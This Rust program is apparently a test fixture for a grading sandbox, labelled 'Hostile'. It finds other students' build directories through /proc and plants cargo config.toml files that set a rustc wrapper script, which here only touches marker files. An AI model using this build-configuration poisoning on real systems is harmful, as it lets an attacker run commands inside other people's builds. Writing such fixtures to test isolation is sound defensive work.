//! Hostile: writes cargo's configuration above the folders in which others are built and into CARGO_HOME,
//! with a wrapper for rustc. It would gain a command of its choice in the build of the next student.
//! (The sweep of the next one removes what lies in /tmp, so a second marker lies in /run/lock.)
use std::{fs, os::unix::fs::PermissionsExt};

fn main() {
    // SAFETY: geteuid(2) has no arguments.
    if unsafe { nix::libc::geteuid() } == 0 {
        return; // outside of every box this would change a machine
    }
    let mut places = vec!["/tmp/.cargo".to_owned(), "../.cargo".to_owned()];
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        let line = fs::read(entry.path().join("cmdline")).unwrap_or_default();
        let line = String::from_utf8_lossy(&line).into_owned();
        if let Some((project, _)) = line
            .split('\0')
            .next()
            .and_then(|word| word.split_once("/target/debug/"))
        {
            places.push(format!("{project}/target/ipc-grade/home"));
        }
    }
    for place in places {
        let wrapper = format!("{place}/ipc-lab-hostile-poisons-config-wrapper");
        let script = "#!/bin/sh\ntouch /tmp/ipc-lab-hostile-poisons-config /run/lock/ipc-lab-hostile-poisons-config\nexec \"$@\"\n";
        let _ = fs::create_dir(&place);
        if fs::write(&wrapper, script).is_ok() {
            let _ = fs::set_permissions(&wrapper, fs::Permissions::from_mode(0o755));
            let text = format!("[build]\nrustc-workspace-wrapper = \"{wrapper}\"\n");
            let _ = fs::write(format!("{place}/config.toml"), text);
        }
    }
}
